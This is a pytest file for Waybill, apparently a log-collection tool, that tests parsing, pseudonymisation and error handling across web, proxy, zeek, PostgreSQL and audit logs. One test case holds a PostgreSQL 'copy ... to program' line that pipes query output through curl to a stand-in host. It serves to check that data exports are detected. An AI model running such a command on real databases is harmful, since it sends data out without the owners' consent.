"""The text sources that come with Waybill: what they give, what they do not keep, and what broken input costs."""

from __future__ import annotations

import gzip
from collections.abc import Callable
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import orjson
import pytest
from tests.collect.samples import PSEUDONYMISER, plan, read_bytes, rejected, rows
from tests.collect.text_samples import PERSON, SAMPLES, SECRET, ZEEK_CONN, Sample, postgres

from waybill.collect import collect
from waybill.model.words import PartyKind

NAMES = sorted(SAMPLES)
OF_ONE_LINE = [
    name for name in NAMES if "\n" not in SAMPLES[name].lines and SAMPLES[name].source not in ("auditd", "mysql-audit")
]
PSEUDONYM = PSEUDONYMISER.pseudonym(PERSON, PartyKind.PERSON)
WHEN = datetime(2026, 3, 4, 5, 6, 7, tzinfo=UTC)


def one_row(folder: Path, content: bytes) -> dict[str, Any]:
    found = read_bytes(folder, content)
    assert rejected(found) == []
    (row,) = rows(found)
    return row | {"fields": dict(row["fields"])}


@pytest.mark.parametrize("name", NAMES)
def test_a_record_is_understood(name: str, tmp_path: Path) -> None:
    sample = SAMPLES[name]
    row = one_row(tmp_path, sample.content)
    assert row["source"] == sample.source
    assert row["time"].replace(microsecond=0) == (WHEN if "CST" not in sample.lines else WHEN.replace(day=3, hour=21))
    assert {column: row[column] for column in sample.columns} == sample.columns
    wanted = {field: value or PSEUDONYM for field, value in sample.fields.items()}
    assert {field: row["fields"].get(field) for field in wanted} == wanted
    if PERSON in sample.lines:
        assert row["actor"] == PSEUDONYM


@pytest.mark.parametrize("name", NAMES)
def test_no_name_and_no_secret_rests(name: str, tmp_path: Path) -> None:
    sample = SAMPLES[name]
    found = read_bytes(tmp_path, sample.content)
    kept = repr(rows(found)).casefold() + repr([(one.reason, one.expected) for one in rejected(found)])
    for word in (PERSON, "lindqvist", SECRET, PERSON.encode().hex(), SECRET.encode().hex()):
        assert word.casefold() not in kept, word
    assert rows(found)[0]["raw"].startswith(b"{")


@pytest.mark.parametrize("name", NAMES)
def test_files_in_other_shapes_give_the_same(name: str, tmp_path: Path) -> None:
    sample = SAMPLES[name]
    expected = one_row(tmp_path, sample.content)
    shapes = [
        sample.content.removesuffix(b"\n"),
        b"\xef\xbb\xbf" + sample.content,
        gzip.compress(sample.content),
        sample.content.decode().encode("utf-16"),
    ]
    if sample.source != "postgresql":  # inside its quotes a line end is part of the value
        shapes.append(sample.content.replace(b"\n", b"\r\n"))
    for shape in shapes:
        assert one_row(tmp_path, shape) == expected


BROKEN: dict[str, Callable[[bytes], bytes]] = {
    "truncated": lambda line: line[: len(line) // 3],
    "wrong encoding": lambda line: line[:-4] + b"\xff\xfe" + line[-4:],
    "GB 18030": lambda line: line[:-4] + "欧阳雪发送文件".encode("gb18030") + line[-4:],
    "NUL": lambda line: line[:-4] + b"\0\0" + line[-4:],
    "overlong": lambda line: line + b"x" * 70_000,
    "1970": lambda line: line.replace(b"2026", b"1970").replace(b"1772600767", b"17726"),
    "2200": lambda line: line.replace(b"2026", b"2200").replace(b"1772600767", b"7258118400"),
    "another source": lambda _: b"a=1 b=2 c",
    "JSON": lambda _: b'{"time": "2026-03-04T05:06:07Z"}',
}


@pytest.mark.parametrize("kind", sorted(BROKEN))
@pytest.mark.parametrize("name", OF_ONE_LINE)
def test_a_broken_record_costs_itself_alone(name: str, kind: str, tmp_path: Path) -> None:
    sample = SAMPLES[name]
    if sample.source == "postgresql" and kind == "truncated":
        return  # an open quote takes the next line with it
    line = sample.lines.encode()
    broken = BROKEN[kind](line)
    content = sample.head.encode() + b"\n".join([line, line, line, broken, line]) + b"\n"
    found = read_bytes(tmp_path, content, record_bytes=65_536)
    got = rows(found)
    first = sample.head.count("\n")
    good = [row for row in got if row["position"] != first + 4]
    assert [row["position"] - first for row in good] == [1, 2, 3, 5]
    assert len(got) + len(rejected(found)) == 5
    for one in rejected(found):
        assert (one.source, one.position) == (sample.source, first + 4)
        assert one.reason and one.expected
        assert PERSON not in repr(one)
    if kind in ("wrong encoding", "GB 18030", "overlong", "another source", "JSON") and sample.source != "postgresql":
        assert len(rejected(found)) == 1
    if kind == "GB 18030":
        assert "look like GB 18030" in rejected(found)[0].reason
    if kind in ("1970", "2200") and b"Mar" not in broken.split(b" ", 1)[0] and broken != line:
        assert rejected(found) or b"2026" not in line


@pytest.mark.parametrize("name", [name for name in NAMES if name != "mysql"])
def test_workers_and_chunks_make_no_difference(name: str, tmp_path: Path) -> None:
    sample = SAMPLES[name]
    lines = [sample.lines.replace(":456)", f":{number})") for number in range(40)]
    path = tmp_path / "log"
    path.write_text(sample.head + "\n".join(lines) + "\n", newline="")
    whole = [row for batch in collect([path], plan(), workers=0) for row in batch.transfers.to_pylist()]
    small = [row for batch in collect([path], plan(chunk_bytes=900), workers=0) for row in batch.transfers.to_pylist()]
    assert len(whole) == 40
    assert whole == small


def test_a_source_is_told_from_its_neighbours(tmp_path: Path) -> None:
    """Files of mixed formats go to the source of most of their first lines; the rest is told."""
    web, proxy = SAMPLES["combined"].content, SAMPLES["squid"].content
    found = read_bytes(tmp_path, web * 5 + proxy + web)
    assert {row["source"] for row in rows(found)} == {"web-access"}
    assert [one.position for one in rejected(found)] == [6]


def test_directives_amid_a_log_of_zeek_hold_from_there_on(tmp_path: Path) -> None:
    line = SAMPLES["zeek conn"].lines
    other = ZEEK_CONN.replace("orig_bytes", "swap").replace("resp_bytes", "orig_bytes").replace("swap", "resp_bytes")
    content = f"{ZEEK_CONN}{line}\n{line}\n{other}{line}\n".encode()
    for chunk in (300, 1_000_000):
        found = rows(read_bytes(tmp_path, content, chunk_bytes=chunk))
        assert [row["bytes"] for row in found] == [4821033, 4821033, 912]


def test_a_rejected_line_of_zeek_can_be_read_again(tmp_path: Path) -> None:
    content = (ZEEK_CONN + SAMPLES["zeek conn"].lines + "\n").replace("4821033", "many").encode()
    (told,) = rejected(read_bytes(tmp_path, content, chunk_bytes=200))
    assert told.field == "bytes"
    assert rows(read_bytes(tmp_path, told.raw.replace(b"many", b"7")))[0]["bytes"] == 7


def test_zeek_in_json_is_the_same_source(tmp_path: Path) -> None:
    records: list[dict[str, Any]] = [
        {"ts": 1772600767.123, "uid": "Cq", "id.orig_h": "10.1.2.3", "id.orig_p": 1, "id.resp_h": "203.0.113.7",
         "id.resp_p": 80, "trans_depth": 1, "method": "GET", "host": "files.example", "uri": f"/a?token={SECRET}",
         "username": PERSON, "password": SECRET, "response_body_len": 5120, "status_code": 200},
    ]  # fmt: skip
    row = one_row(tmp_path, b"\n".join(map(orjson.dumps, records)))
    assert (row["source"], row["bytes"], row["actor"], row["time"]) == (
        "zeek-http", 5120, PSEUDONYM, WHEN.replace(microsecond=123_000),
    )  # fmt: skip
    assert SECRET not in repr(row)


def test_versions_of_the_postgresql_log(tmp_path: Path) -> None:
    tails = ["", ',"client backend"', ',"client backend",,0']
    content = "".join(f"{postgres('statement: select 1', tail=tail)}\n" for tail in tails).encode()
    found = read_bytes(tmp_path, content)
    assert [row["application"] for row in rows(found)] == ["psql"] * 3
    (told,) = rejected(read_bytes(tmp_path, content + b"a,b,c\n"))
    assert told.reason == "the record has 3 cells"


@pytest.mark.parametrize(
    ("message", "action", "place"),
    [
        ("AUDIT: OBJECT,3,1,READ,COPY,TABLE,public.orders,COPY public.orders (a) TO stdout;,<none>,12", "export", "10"),
        ("AUDIT: SESSION,3,1,WRITE,COPY,TABLE,public.orders,COPY public.orders FROM stdin;,<none>", "read", "10"),
        ("statement: copy (select 1) to program 'curl -T - https://x.example'", "export", "curl"),
        ("connection authorized: user=x database=y", "login", "10"),
        ("disconnection: session time: 0:00:01", "read", "10"),
    ],
)
def test_postgresql_commands(tmp_path: Path, message: str, action: str, place: str) -> None:
    row = one_row(tmp_path, f"{postgres(message)}\n".encode())
    assert row["action"] == action
    assert row["to_place"].startswith(place)


def test_lines_of_audit_events_may_be_interleaved(tmp_path: Path) -> None:
    lines = SAMPLES["auditd copy"].lines.split("\n")
    other = [line.replace(":456)", ":457)") for line in lines]
    mixed = [line for pair in zip(lines, other, strict=True) for line in pair]
    found = rows(read_bytes(tmp_path, ("\n".join(mixed) + "\n").encode()))
    assert [row["position"] for row in found] == [1, 2]
    assert [dict(row["fields"])["type"].count("PATH") for row in found] == [2, 2]


def test_a_time_without_a_year_is_in_the_latest_that_is_not_ahead(tmp_path: Path) -> None:
    now = datetime.now(UTC)
    line = "{} eda-1 app: x\n"
    days = [f"{now.replace(day=1, month=month):%b %e} 05:06:07" for month in range(1, 13)]
    found = rows(read_bytes(tmp_path, "".join(line.format(day) for day in days).encode()))
    times = [row["time"] for row in found]
    assert len(times) == 12
    assert all((now - time).days <= 366 and (time - now).days < 2 for time in times)
    (leap,) = rows(read_bytes(tmp_path, line.format("Feb 29 05:06:07").encode()))
    assert (leap["time"].month, leap["time"].day) == (2, 29)


def test_every_text_sample_is_of_another_kind() -> None:
    assert len({sample.lines for sample in SAMPLES.values()}) == len(SAMPLES)
    assert isinstance(SAMPLES["mysql"], Sample)
